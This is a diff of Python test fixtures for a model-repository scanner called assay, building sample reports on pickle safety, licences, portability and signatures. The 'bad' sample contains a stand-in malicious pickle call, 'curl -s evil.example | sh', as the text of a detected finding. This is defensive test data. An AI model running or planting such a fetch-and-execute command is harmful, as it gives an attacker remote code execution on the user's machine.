@@ -7,54 +7,58 @@ from typing import Any
 
 from assay.reports import RuleNote, scan_report
 
-SCALE = 1_000_000
+MEGABYTE = 1_000_000
+PART = "weights/part-2.bin"
 
 
 def bad() -> dict[str, Any]:
     """A "MIT" model derived from Llama 2, whose pickle would call a shell."""
+    shell = 'posix.system("curl -s evil.example | sh")'
+    convert = "Do not load it. Ask for safetensors, or convert with `assay fix`, which runs nothing."
+    parent = "declared MIT License, yet made from meta-llama/Llama-2-7b-hf, which is under Llama 2 Community License"
     findings = [
-        finding("SEC101-pickle-call", "secure", "critical", 'loading this file calls posix.system("curl -s evil.example | sh")',
-                file="pytorch_model.bin", location="member archive/data.pkl, offset 187",
-                fix="Convert it without running anything: assay fix PATH",
-                detail={"callable": "posix.system", "args": ["curl -s evil.example | sh"], "offset": 187}),
-        finding("OPN203-inherited-terms", "open", "high",
-                "declared MIT, but Llama 2 is the parent: its community licence limits use above 700 million users",
-                file="README.md", location="key license", fix="Declare llama2 and keep its notice, or start from an open parent."),
-        finding("OPN202-licence-text", "open", "medium", "no licence text comes with the model",
-                fix="Add the text of the licence as LICENSE: assay fix PATH"),
-        finding("POR301-unguarded-cuda", "portable", "medium", "imports flash_attn without a way round it",
-                file="modeling_helper.py", location="line 12", fix="Guard the import and fall back to plain attention."),
-        finding("EVA401-bare-score", "evaluated", "low", "a score of 0.71 on MMLU names no data digest",
-                file="README.md", location="key model-index", fix="Run it here: assay eval BENCHMARK MODEL"),
-        passing("SEC102-safetensors-header", "secure"), passing("SEC104-secrets", "secure"),
-        passing("POR302-vendor-format", "portable"),
-        finding("PRO501-signature", "provenance", "info", "no signature says who published this", outcome="unknown",
-                fix="Sign it: assay attest PATH"),
+        finding("SEC101-pickle-call", "secure", "critical", f"loading this file calls {shell}",
+                file="pytorch_model.bin", location="member archive/data.pkl, offset 187", fix=convert,
+                detail={"call": "posix.system", "operation": "REDUCE", "offset": 187}),
+        finding("OPN103-called-open-but-restricted", "open", "high", parent, file="README.md",
+                location="key base_model", fix="Declare `license: llama2`, add its text and notices."),
+        finding("OPN102-licence-text-missing", "open", "low", "the text of MIT License is missing",
+                fix="Add it, unchanged, as LICENSE."),
+        finding("POR102-unguarded-accelerator-import", "portable", "medium", "imports flash_attn, which needs CUDA",
+                file="modeling_helper.py", location="line 12",
+                fix="Import it inside try … except ImportError, with a fallback in plain torch."),
+        finding("EVA101-no-results", "evaluated", "info", "no result of any evaluation is claimed", outcome="unknown",
+                fix="Run `assay eval`."),
+        finding("PRV101-unsigned", "provenance", "info", "nobody has signed these files", outcome="unknown",
+                fix="Sign them with `assay attest`."),
+        passing("SEC104-safetensors-malformed", "secure"), passing("SEC105-secret-in-text", "secure"),
+        passing("POR101-vendor-locked-format", "portable"),
     ]  # fmt: skip
     axes = {
-        "secure": axis("fail", 'loading this file calls posix.system("curl -s evil.example | sh").'),
-        "open": axis(
-            "fail", "declared MIT, but Llama 2 is the parent: its community licence limits use; 1 more fails."
-        ),
-        "portable": axis("fail", "imports flash_attn without a way round it."),
-        "evaluated": axis("unknown", "No result is bound to this revision."),
-        "provenance": axis("unknown", "no signature says who published this."),
+        "secure": axis("fail", f"loading this file calls {shell}."),
+        "open": axis("fail", f"{parent}; 1 note."),
+        "portable": axis("fail", "imports flash_attn, which needs CUDA."),
+        "evaluated": axis("unknown", "no result of any evaluation is claimed."),
+        "provenance": axis("unknown", "nobody has signed these files."),
     }
     verdict = {
         "policy": "default",
         "outcome": "refuse",
         "because": [
-            reason("refuse", "deny", "runs-code", "Loading it would run code of somebody's choice."),
-            reason("refuse", "deny", "terms-broken", "It promises more than the terms of its parent allow."),
+            reason("refuse", "deny", "known-danger", "Loading or running this could hurt you."),
+            reason("refuse", "deny", "mislabelled-licence", "The licence it names is not the one that holds."),
         ],
         "would_change_if": [
-            {"verdict": "admit", "changes": ["no file calls code when loaded", "the declared licence is Llama 2's"]}
+            {"verdict": "admit", "changes": [
+                "Ask for safetensors, or convert with `assay fix` (SEC101-pickle-call).",
+                "Declare `license: llama2` (OPN103-called-open-but-restricted).",
+            ]},
         ],
-    }
+    }  # fmt: skip
     files = [
-        file("LICENSE-NOTE.txt", 212, "text"), file("README.md", 1_840, "card"), file("config.json", 655, "json"),
-        file("modeling_helper.py", 9_301, "python"), file("pytorch_model.bin", 13_476 * SCALE, "zip"),
-        file("tokenizer.json", 2 * SCALE, "json"),
+        file("README.md", 1_840, "card"), file("USE_POLICY.md", 4_212, "licence"), file("config.json", 655, "json"),
+        file("modeling_helper.py", 9_301, "python"), file("pytorch_model.bin", 13_476 * MEGABYTE, "zip"),
+        file("tokenizer.json", 2 * MEGABYTE, "json"),
     ]  # fmt: skip
     return scan("./llama-2-helper", files, findings, axes, verdict)
 
@@ -62,9 +66,9 @@ def bad() -> dict[str, Any]:
 def clean() -> dict[str, Any]:
     """A model with nothing to say against it, signed."""
     findings = [
-        passing("SEC101-pickle-call", "secure"), passing("SEC102-safetensors-header", "secure"),
-        passing("OPN201-licence", "open"), passing("POR302-vendor-format", "portable"),
-        passing("EVA401-bare-score", "evaluated"), passing("PRO501-signature", "provenance"),
+        passing("SEC101-pickle-call", "secure"), passing("SEC104-safetensors-malformed", "secure"),
+        passing("OPN101-licence-undeclared", "open"), passing("POR101-vendor-locked-format", "portable"),
+        passing("EVA101-no-results", "evaluated"), passing("PRV101-unsigned", "provenance"),
     ]  # fmt: skip
     axes = {
         "secure": axis("pass", "2 checks passed."),
@@ -73,23 +77,30 @@ def clean() -> dict[str, Any]:
         "evaluated": axis("pass", "ledger-qa: 41 of 60 right (0.56 to 0.79)."),
         "provenance": axis("pass", "Published under a trusted signature; 1 check passed."),
     }
-    because = [reason("admit", "deny", "runs-code", "Loading it runs code."),
-               reason("admit", "require", "licence-known", "Nobody knows under what licence it comes.")]  # fmt: skip
-    verdict = {"policy": "default", "outcome": "admit", "because": because, "would_change_if": []}
-    files = [file("LICENSE", 11_357, "licence"), file("README.md", 2_100, "card"), file("config.json", 512, "json"),
-             file("model.safetensors", 268 * SCALE, "safetensors")]  # fmt: skip
+    because = [
+        reason("admit", "deny", "known-danger", "Loading or running this could hurt you."),
+        reason("admit", "require", "secure", "Every file that could carry code must have been read and found safe."),
+    ]
+    worse = {"verdict": "refuse", "changes": ["A new finding at high or above on secure."]}
+    verdict = {"policy": "default", "outcome": "admit", "because": because, "would_change_if": [worse]}
+    files = [
+        file("LICENSE", 11_357, "licence"), file("README.md", 2_100, "card"), file("config.json", 512, "json"),
+        file("model.safetensors", 268 * MEGABYTE, "safetensors"),
+    ]  # fmt: skip
     signed = {"digest": sha("statement"), "keyid": sha("key")}
     return scan("./ledger-small", files, findings, axes, verdict, statement=signed)
 
 
 def undecided() -> dict[str, Any]:
-    """A remote model of which two files could not be read."""
+    """A remote model of which one file could not be read and one is of no known format."""
     why = "the zip directory lies outside the file"
+    unread = finding("SEC101-pickle-call", "secure", "info", f"not judged: {why}", outcome="unknown", file=PART)
     findings = [
-        finding("SEC101-pickle-call", "secure", "info", f"not judged: {why}", outcome="unknown", file="weights/part-2.bin"),
-        finding("PRO502-parent", "provenance", "info", "the card names no base model", outcome="unknown",
-                file="README.md", fix="Name it in the card: base_model: ORG/NAME"),
-        passing("SEC104-secrets", "secure"), passing("OPN201-licence", "open"), passing("POR302-vendor-format", "portable"),
+        unread,
+        finding("PRV102-parent-undeclared", "provenance", "info", "the card names no base model", outcome="unknown",
+                file="README.md", fix="Name it in the card: `base_model: ORG/NAME`."),
+        passing("SEC105-secret-in-text", "secure"), passing("OPN101-licence-undeclared", "open"),
+        passing("POR101-vendor-locked-format", "portable"),
     ]  # fmt: skip
     axes = {
         "secure": axis("unknown", f"not judged: {why}."),
@@ -98,24 +109,25 @@ def undecided() -> dict[str, Any]:
         "evaluated": axis("unknown", "No result is bound to this revision."),
         "provenance": axis("unknown", "the card names no base model."),
     }
+    say = "Every file that could carry code must have been read and found safe."
     verdict = {
         "policy": "commercial",
         "outcome": "undecided",
-        "because": [
-            reason(
-                "undecided", "require", "safe-to-load", "Nobody showed that loading it is safe.", missing=["secure.ok"]
-            ),
+        "because": [reason("undecided", "require", "secure", say, missing=["secure.ok"])],
+        "would_change_if": [
+            {"verdict": "admit", "changes": [f"Make it possible to judge: not judged: {why} (SEC101-pickle-call)."]}
         ],
-        "would_change_if": [{"verdict": "admit", "changes": ["secure is known to be ok"]}],
     }
-    files = [file("README.md", 900, "card"),
-             file("weights/part-1.bin", 4_000 * SCALE, "zip", grade="claimed by upstream"),
-             file("weights/part-2.bin", 4_000 * SCALE, "zip", grade="not known"),
-             file("weights/vocab.spm", 500_000, "unclaimed", grade="claimed by upstream")]  # fmt: skip
-    return scan("https://hub.example/orga/model@main", files, findings, axes, verdict, source="hub",
-                git_commit="4f2c" * 10, isolation="not isolated",
-                not_judged=[{"file": "weights/part-2.bin", "reason": why}],
-                not_examined=["weights/vocab.spm"])  # fmt: skip
+    files = [
+        file("README.md", 900, "card"),
+        file("weights/part-1.bin", 4_000 * MEGABYTE, "zip", grade="claimed by upstream"),
+        file(PART, 4_000 * MEGABYTE, "zip", grade="not known"),
+        file("weights/vocab.spm", 500_000, "unclaimed", grade="claimed by upstream"),
+    ]
+    return scan(
+        "https://hub.example/orga/model@main", files, findings, axes, verdict, source="hub", git_commit="4f2c" * 10,
+        isolation="not isolated", not_judged=[{"file": PART, "reason": why}], not_examined=["weights/vocab.spm"],
+    )  # fmt: skip
 
 
 TRAPS = (
@@ -130,8 +142,10 @@ def hostile() -> dict[str, Any]:
     """Every place that holds text from outside holds something that would do harm if it were not escaped."""
     every = " ".join(TRAPS)
     findings = [
-        finding("SEC101-pickle-call", "secure", "critical", f"calls {trap}", file=f"{trap}.bin", location=f"member {trap}, offset 7",
-                fix=f"remove {trap}", detail={trap: trap})
+        finding(
+            "SEC101-pickle-call", "secure", "critical", f"calls {trap}", file=f"{trap}.bin",
+            location=f"member {trap}, offset 7", fix=f"remove {trap}", detail={trap: trap},
+        )
         for trap in TRAPS
     ]  # fmt: skip
     findings.append(finding(f"OPN999-{every}", "open", "low", every, file=every, location=every, fix=every))
@@ -139,7 +153,7 @@ def hostile() -> dict[str, Any]:
     axes = {name: axis("fail", every) for name in ("secure", "open", "portable", "evaluated", "provenance")}
     verdict = {"policy": every, "outcome": "refuse", "because": [reason("refuse", "deny", every, every)],
                "would_change_if": [{"verdict": "admit", "changes": [every]}]}  # fmt: skip
-    files = [file(f"{trap}.bin", 7, "pickle", digest=False) for trap in TRAPS]
+    files = [file(f"{trap}.bin", 7, "pickle", grade="not known") for trap in TRAPS]
     return scan(every, files, findings, axes, verdict, not_judged=[{"file": trap, "reason": trap} for trap in TRAPS],
                 not_examined=list(TRAPS))  # fmt: skip
 
@@ -148,32 +162,63 @@ SAMPLES = {"bad": bad, "clean": clean, "undecided": undecided, "hostile": hostil
 
 RULES: dict[str, RuleNote] = {
     "SEC101-pickle-call": {
-        "title": "A pickle calls something that is not on the list of what frameworks write.",
-        "page": "A pickle calls something that is not on the list of what frameworks write.\n\n"
-                "A pickle is a program: loading it may call any function.\n\nFix: convert to safetensors.",
+        "title": "Every call that pickles make is one that frameworks write.",
+        "page": "Every call that pickles make is one that frameworks write.\n\n"
+                "A pickle is a small program: loading it may call any function.\n\n"
+                "Sample: `cposix` calls {anything}.\n\nFix: convert it to safetensors.",
         "severity": "critical",
     },
-    "PRO501-signature": {"title": "Nobody signed this.", "page": "Nobody signed this.", "severity": "info"},
+    "PRV101-unsigned": {"title": "A signature lies beside the files.", "page": "Sign it.", "severity": "info"},
 }  # fmt: skip
 
 
-def scan(name: str, files: list[Any], findings: list[Any], axes: Any, verdict: Any, *, source: str = "folder",
-         isolation: str = "isolated", git_commit: str | None = None, statement: Any = None, not_judged: Any = (),
-         not_examined: Any = ()) -> dict[str, Any]:  # fmt: skip
+def scan(
+    name: str,
+    files: list[Any],
+    findings: list[Any],
+    axes: Any,
+    verdict: Any,
+    *,
+    source: str = "folder",
+    isolation: str = "isolated",
+    git_commit: str | None = None,
+    statement: Any = None,
+    not_judged: Any = (),
+    not_examined: Any = (),
+) -> dict[str, Any]:
     predicate = {
-        "tool": {"name": "assay", "version": "0.1.0"}, "readers": ["json/1"], "checks": ["SEC101/1"], "rules": sha("rules"),
-        "files": files, "findings": findings, "facts": {}, "not_judged": list(not_judged), "not_examined": list(not_examined),
-    }  # fmt: skip
+        "tool": {"name": "assay", "version": "0.1.0"},
+        "readers": ["json/1"],
+        "checks": ["SEC101/1"],
+        "rules": sha("rules"),
+        "files": files,
+        "findings": findings,
+        "facts": {},
+        "not_judged": list(not_judged),
+        "not_examined": list(not_examined),
+    }
     statement = statement or {"digest": sha("statement"), "keyid": None}
     return scan_report(
         name, source, predicate, axes, verdict, isolation=isolation, git_commit=git_commit, statement=statement
     )
 
 
-def finding(rule: str, axis: str, severity: str, message: str, *, outcome: str = "fail", file: str | None = None,
-            location: str | None = None, fix: str | None = None, detail: Any = None) -> dict[str, Any]:  # fmt: skip
-    return {"rule": rule, "axis": axis, "outcome": outcome, "severity": severity, "confidence": "high", "message": message,
-            "file": file, "location": location, "fix": fix, "detail": detail or {}}  # fmt: skip
+def finding(
+    rule: str,
+    axis: str,
+    severity: str,
+    message: str,
+    *,
+    outcome: str = "fail",
+    file: str | None = None,
+    location: str | None = None,
+    fix: str | None = None,
+    detail: Any = None,
+) -> dict[str, Any]:
+    return {
+        "rule": rule, "axis": axis, "outcome": outcome, "severity": severity, "confidence": "high", "message": message,
+        "file": file, "location": location, "fix": fix, "detail": detail or {},
+    }  # fmt: skip
 
 
 def passing(rule: str, axis: str) -> dict[str, Any]:
@@ -185,19 +230,13 @@ def axis(outcome: str, why: str) -> dict[str, Any]:
 
 
 def reason(outcome: str, kind: str, name: str, say: str, missing: Any = ()) -> dict[str, Any]:
-    return {
-        "rule": {"kind": kind, "name": name},
-        "outcome": outcome,
-        "say": say,
-        "missing": list(missing),
-        "statements": [],
-    }
+    told = {"outcome": outcome, "say": say, "missing": list(missing), "statements": []}
+    return {"rule": {"kind": kind, "name": name}, **told}
 
 
-def file(path: str, size: int, format: str, *, grade: str = "computed", digest: bool = True) -> dict[str, Any]:
-    known = digest and grade != "not known"
-    return {"path": path, "size": size, "sha256": sha(path) if known else None,
-            "digest": grade if digest else "not known", "format": format}  # fmt: skip
+def file(path: str, size: int, form: str, *, grade: str = "computed") -> dict[str, Any]:
+    digest = None if grade == "not known" else sha(path)
+    return {"path": path, "size": size, "sha256": digest, "digest": grade, "format": form}
 
 
 def sha(text: str) -> str:
